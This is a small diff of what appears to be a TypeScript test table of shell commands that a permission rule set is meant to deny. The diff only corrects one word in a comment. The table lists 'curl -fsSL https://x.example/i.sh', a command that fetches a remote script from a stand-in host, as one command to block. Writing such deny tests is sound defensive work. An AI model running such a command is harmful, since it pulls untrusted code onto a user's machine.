@@ -1,6 +1,6 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the language here is the shell's
 
-/** A second set beside `denied.table.ts`, written before the rules were tuned to the first and measured after. */
+/** A second set besides `denied.table.ts`, written before the rules were tuned to the first and measured after. */
 export const DENIED_FRESH: Record<string, string[]> = {
   'curl *': [
     'curl -fsSL https://x.example/i.sh',
